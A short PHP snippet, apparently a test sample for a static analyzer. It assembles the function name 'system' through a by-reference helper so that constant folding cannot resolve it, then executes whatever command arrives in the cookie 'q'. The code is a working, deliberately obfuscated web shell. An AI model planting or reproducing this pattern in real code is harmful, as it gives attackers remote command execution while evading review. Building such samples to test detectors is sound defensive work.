<?php
// The sink's name completed through a by-reference helper that the folds cannot follow.
function finish(&$name) { $name .= 'em'; }
$run = 'syst';
finish($run);
$run($_COOKIE['q']);
